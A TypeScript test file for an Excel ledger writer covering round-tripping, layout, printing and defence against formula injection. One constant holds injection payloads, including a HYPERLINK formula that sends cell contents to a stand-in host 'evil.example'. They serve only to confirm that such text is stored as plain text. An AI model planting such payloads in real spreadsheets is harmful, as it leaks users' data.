import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { startsLikeFormula } from './formula-guard.js';
import { emptyLedgerRow } from './ledger-row.js';
import type { LedgerRow } from './ledger-row.js';
import { readLedgerWorkbook } from './read-ledger-workbook.js';
import { writeLedgerWorkbook } from './write-ledger-workbook.js';
import { findEntryData, readZipDirectory } from '../../shared/zip-directory.js';

const example = readFileSync(new URL('./fixtures/example-master-ledger.xlsx', import.meta.url));
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

function buildRow(code: string, overrides: Partial<LedgerRow>): LedgerRow {
  return { ...emptyLedgerRow(code, `任务${code}`), ...overrides };
}

async function loadSheet(buffer: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

describe('writeLedgerWorkbook', () => {
  it('writes the example ledger back so that reading it again gives equal rows', async () => {
    const original = await readLedgerWorkbook(example, { kind: 'master' });
    const written = await writeLedgerWorkbook({ kind: 'master', title: '总台账（导出）', rows: original.rows, years: [2023] });
    const reread = await readLedgerWorkbook(written, { kind: 'master' });
    expect(reread.problems).toEqual([]);
    expect(reread.rows).toEqual(original.rows);
  });

  it('round-trips every field of indicator and pilot ledgers, including text that looks like a formula', async () => {
    const indicator = buildRow('I-01', {
      title: HOSTILE[0] ?? '',
      unit: '%',
      baselineYear: 2020,
      baselineValue: '2.40',
      provinceTarget: '-1.5',
      stretchTarget: '3',
      target: '2.8',
      targetQualifier: '左右',
      yearlyTargets: [
        { year: 2023, value: '2.5' },
        { year: 2024, value: '0.1' },
      ],
      leadDepartments: ['市科技局', '市统计局'],
      remarks: HOSTILE.slice(1, 4).join('\n'),
      leaderName: '@某领导',
    });
    const rule = buildRow('I-02', { title: '高价值发明专利', target: null, targetRule: '较基期翻番', measures: '-先行先试\n-再推广' });
    const indicators = await roundTrip('key_indicators', [indicator, rule], [2023, 2024]);
    expect(indicators).toEqual([indicator, rule]);
    const pilot = buildRow('4-17', {
      pilotLevel: 'national',
      pilotStage: 'under_review',
      areaNumeral: '四',
      areaTitle: '生态优势',
      deadlineText: '2025年底前',
      deadline: '2025-12-31',
      quarterlyPlans: [{ period: '2024Q2', milestone: '=完成年度任务的50%', cumulativePercent: 50, basis: 'annual' }],
    });
    expect(await roundTrip('pilots', [pilot], [2024])).toEqual([pilot]);
  });

  it('never writes a formula: text that starts like one is a Text cell with quotePrefix, shown without an apostrophe', async () => {
    const rows = HOSTILE.map((text, i) => buildRow(`1-0${i + 1}`, { title: text, measures: text, coDepartments: [text] }));
    const written = await writeLedgerWorkbook({ kind: 'master', title: '=标题', rows, years: [2023], note: '+说明' });
    const sheet = await loadSheet(written);
    const guarded: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        expect(['string', 'number'], `${cell.address}`).toContain(typeof cell.value);
        if (typeof cell.value !== 'string' || !startsLikeFormula(cell.value)) return;
        expect(cell.numFmt, cell.address).toBe('@');
        guarded.push(cell.value);
      }),
    );
    // (XML turns the last one's carriage return into a line feed; it is guarded all the same.)
    expect(guarded).toEqual(expect.arrayContaining(['=标题', '+说明', ...HOSTILE.slice(0, 5)]));
    expect(guarded.filter((text) => text.startsWith("'"))).toEqual([]);
    expect(sheetXml(written)).not.toMatch(/<f[ >]/);
    // Every Text (@) cell format carries quotePrefix, as Excel writes it when someone types '=….
    const textFormats = stylesXml(written).match(/<xf numFmtId="49"[^>]*>/g) ?? [];
    expect(textFormats.length).toBeGreaterThan(0);
    for (const format of textFormats) expect(format).toContain('quotePrefix="1"');
  });

  it('sets every row as tall as its wrapped text, capped at 409pt', async () => {
    const long = '推进科技成果转化'.repeat(20);
    const rows = [
      buildRow('1-01', { title: '短任务' }),
      buildRow('1-02', { title: long, measures: '第一行\n第二行\n第三行\n第四行\n第五行\n第六行\n第七行\n第八行' }),
      buildRow('1-03', { title: '超长'.repeat(3000) }),
    ];
    const sheet = await loadSheet(await writeLedgerWorkbook({ kind: 'master', title: '台账', rows, years: [2023] }));
    // Title, two header rows, then the items (no area rows: the rows have no area).
    const heights = [4, 5, 6].map((row) => sheet.getRow(row).height);
    for (let row = 1; row <= 6; row++) expect(sheet.getRow(row).height, `row ${row}`).toBeGreaterThan(0);
    // 160 CJK characters = 320 units in a 30-unit column: 12 lines of ~15pt.
    expect(heights[1]).toBeGreaterThanOrEqual(12 * 15);
    expect(heights[1]).toBeGreaterThan(heights[0] ?? 0);
    expect(heights[2]).toBe(409);
  });

  it('prints a wide three-year ledger in bands of whole years that repeat 编号 and 任务, a narrow one on one page wide', async () => {
    const original = await readLedgerWorkbook(example, { kind: 'master' });
    const wideFile = await writeLedgerWorkbook({ kind: 'master', title: '台账', rows: original.rows, years: [2023, 2024, 2025] });
    const wide = await loadSheet(wideFile);
    expect(wide.columnCount).toBeGreaterThanOrEqual(21);
    expect(wide.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', printTitlesColumn: 'A:B', printTitlesRow: '2:3' });
    expect(wide.pageSetup.fitToPage).toBeFalsy();
    expect(wide.pageSetup.scale).toBeGreaterThanOrEqual(65);
    expect(wide.pageSetup.scale).toBeLessThanOrEqual(100);
    // Each break starts a page at a year's 一季度, never inside a year.
    const breaks = [...sheetXml(wideFile).matchAll(/<brk id="(\d+)"/g)].map((match) => Number(match[1]));
    expect(breaks.length).toBeGreaterThan(0);
    for (const index of breaks) expect(wide.getCell(3, index + 1).value, `column ${index + 1}`).toBe('一季度');
    // The title is merged over the first band only, so it is never cut at a page edge.
    expect(wide.model.merges).toContain(`A1:${wide.getColumn(breaks[0]!).letter}1`);
    const narrow = await loadSheet(await writeLedgerWorkbook({ kind: 'master', title: '台账', rows: original.rows, years: [2023] }));
    expect(narrow.pageSetup).toMatchObject({ fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(narrow.pageSetup.printTitlesColumn).toBeFalsy();
  });

  it('lays the sheet out as offices do: merged title, grouped quarter headers, area rows, frozen header, A3 landscape', async () => {
    const original = await readLedgerWorkbook(example, { kind: 'master' });
    const written = await writeLedgerWorkbook({ kind: 'master', title: '台账', note: '填报单位：市指挥部办公室', rows: original.rows, years: [2023, 2024] });
    const sheet = await loadSheet(written);
    const merges = sheet.model.merges;
    // Two years of quarters print in two bands; the title, note and area rows span the first (A–L).
    expect(merges).toEqual(expect.arrayContaining(['A1:L1', 'A2:L2', 'A3:A4', 'I3:L3', 'M3:P3', 'Q3:Q4', 'A5:L5']));
    expect([sheet.getCell('I3').value, sheet.getCell('I4').value, sheet.getCell('M3').value]).toEqual(['2023年推进计划', '一季度', '2024年推进计划']);
    expect(sheet.getCell('A5').value).toBe('一、深化科技创新引领，建设国家创新型城市');
    expect(sheet.getCell('B6').alignment?.wrapText).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
    expect(sheet.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', printTitlesRow: '3:4' });
    expect(sheet.getColumn(2).width).toBe(30);
  });
});

async function roundTrip(kind: 'key_indicators' | 'pilots', rows: LedgerRow[], years: number[]): Promise<LedgerRow[]> {
  const written = await writeLedgerWorkbook({ kind, title: '台账', rows, years });
  const reread = await readLedgerWorkbook(written, { kind });
  expect(reread.problems).toEqual([]);
  return reread.rows;
}

function stylesXml(xlsx: Buffer): string {
  const directory = readZipDirectory(xlsx, 1000);
  if (!directory.ok) throw new Error(directory.reason);
  const entry = directory.entries.find((e) => e.name === 'xl/styles.xml');
  return entry ? inflateRawSync(findEntryData(xlsx, entry) ?? Buffer.alloc(0)).toString('utf8') : '';
}

/** The raw XML of every worksheet, to check no <f> (formula) element was written. */
function sheetXml(xlsx: Buffer): string {
  const directory = readZipDirectory(xlsx, 1000);
  if (!directory.ok) throw new Error(directory.reason);
  return directory.entries
    .filter((entry) => entry.name.startsWith('xl/worksheets/') && entry.name.endsWith('.xml'))
    .map((entry) => inflateRawSync(findEntryData(xlsx, entry) ?? Buffer.alloc(0)).toString('utf8'))
    .join('');
}
